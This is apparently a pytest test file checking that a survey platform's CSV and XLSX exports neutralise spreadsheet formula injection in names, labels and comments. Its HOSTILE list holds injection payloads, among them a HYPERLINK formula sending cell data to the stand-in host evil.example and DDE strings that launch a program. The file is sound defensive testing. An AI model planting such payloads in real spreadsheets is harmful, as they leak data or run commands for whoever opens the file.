"""Issue 23: formulas written into our own files. Every CSV and XLSX the platform writes passes
through `survey.spreadsheets`; hostile names go in, and reading each file back finds text only.

The attacker controls a name that reaches a file: an officer renames a centre, whoever prepares
the leaders' roster writes a full name, a citizen types a comment. The victim is the official
who opens the file in Excel or LibreOffice, where `=HYPERLINK(...)` would be a live link.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import dataclass
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest

from survey.counts.template import counts_template
from survey.exports.workbook import write_export
from survey.leaders.invitations import Invitation, links_csv
from survey.leaders.scores import score_dict, score_xlsx
from survey.spreadsheets import csv_text, defuse_frame, safe_cell, safe_row
from tests.factories import make_centre, make_field, make_locality

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx_cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_no_formula(cells) -> None:
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))], texts


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_safe_csv(text: str) -> list[list[str]]:
    """Read as a spreadsheet would (a bare CR starts a new line too): no cell may start a formula."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    cells = [cell for row in rows for cell in row if not _is_number(cell)]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    return rows


@pytest.mark.parametrize("value", HOSTILE)
def test_text_a_spreadsheet_would_run_is_marked_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [7, -3, 2.5, -0.25, None, True, "", "Nguyễn Văn An", "24001", "a=b", "–"])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_csv_text_and_frames_keep_numbers_numeric():
    rows = _assert_safe_csv(csv_text([["name", "count"], [HOSTILE[0], -5]]))
    assert rows[1] == ["'" + HOSTILE[0], "-5"]
    frame = defuse_frame(pd.DataFrame({"name": HOSTILE[:2], "score": [-1.5, 2]}))
    assert frame["score"].tolist() == [-1.5, 2]
    assert frame["name"].tolist() == ["'" + v for v in HOSTILE[:2]]
    assert safe_row([HOSTILE[2], 3]) == ["'" + HOSTILE[2], 3]


def test_the_counts_template_writes_hostile_centre_and_field_names_as_text(db_session):
    """Issue 23: a centre name set by an officer became a live formula in column B."""
    locality = make_locality(db_session, code="24001", name="Xã A")
    for index, name in enumerate(HOSTILE):
        centre = make_centre(db_session, locality, code=f"c{index}")
        centre.name = name
        make_field(db_session, f"f{index}", name)
    db_session.commit()
    cells = _xlsx_cells(counts_template(db_session, "2026Q3"))
    _assert_no_formula(cells)
    assert "'" + HOSTILE[0] in {cell.value for cell in cells}


def test_the_invitations_csv_writes_hostile_roster_names_as_text():
    """Issue 23: a roster full name =HYPERLINK(...) was written raw into the invitations CSV."""
    invitations = [Invitation(i, "lanh_dao_so", name, name, "+84 912 345 678", None, "https://ks.example/l/x")
                   for i, name in enumerate(HOSTILE, start=1)]
    rows = _assert_safe_csv(links_csv(invitations, {"lanh_dao_so": "=Lãnh đạo sở"}))
    assert rows[1][:5] == ["1", "'=Lãnh đạo sở", "'" + HOSTILE[0], "'" + HOSTILE[0], "'+84 912 345 678"]


@dataclass
class _Report:
    """The shape of analysis.par.ParReport.as_dict(), with hostile labels to come."""

    min_cell: int = 3

    def as_dict(self):
        figures = {"estimate": -1.5, "se": 0.5, "ci_low": -2.5, "ci_high": -0.5, "n": 4, "reason": None}
        return {
            "total": dict(figures), "total_e_as_zero": dict(figures), "max_points": 10,
            "min_cell": self.min_cell, "level": 0.95,
            "by_group": [{"group": "g", "invited": 5, "responses": 4, "response_rate": 0.8, **figures}],
            "by_field": [{"field": "f", "max_points": 10, "lost": 1.5, **figures}],
            "criteria": [{"rank": 1, "code": "c", "field": "f", "max_points": 2, "mean_share": 0.4, "lost": 0.3,
                          "graded": 4, "cannot_assess": 0, **figures}],
        }


def test_the_scores_workbook_writes_hostile_labels_as_text_and_figures_as_numbers():
    labels = {"group": {"g": HOSTILE[0]}, "field": {"f": HOSTILE[1]}, "criterion": {"c": HOSTILE[3]}}
    wave = SimpleNamespace(code="-PAR-2026Q3", status="open", closes_on=dt.date(2026, 9, 30), is_demo=False)
    document = {**score_dict(_Report(), labels, wave), "demo": False, "interim": True,
                "built_at": dt.datetime(2026, 9, 1, 8, 0).isoformat()}
    data = score_xlsx(document)
    cells = _xlsx_cells(data)
    _assert_no_formula(cells)
    assert -1.5 in {cell.value for cell in cells}  # an estimate below zero stays a number


def test_the_response_export_writes_hostile_comments_as_text_in_csv_and_xlsx():
    frame = pd.DataFrame({"response_id": ["a", "b", "c", "d", "e", "f"], "tc1": [1, 2, 3, 4, 5, -1],
                          "other_comments": HOSTILE})
    out = io.BytesIO()
    write_export(frame, out, "csv")
    rows = _assert_safe_csv(out.getvalue().decode("utf-8-sig"))
    assert [row[1] for row in rows[1:]] == ["1", "2", "3", "4", "5", "-1"]
    out = io.BytesIO()
    write_export(frame, out, "xlsx")
    cells = _xlsx_cells(out.getvalue())
    _assert_no_formula(cells)
    assert -1 in {cell.value for cell in cells}
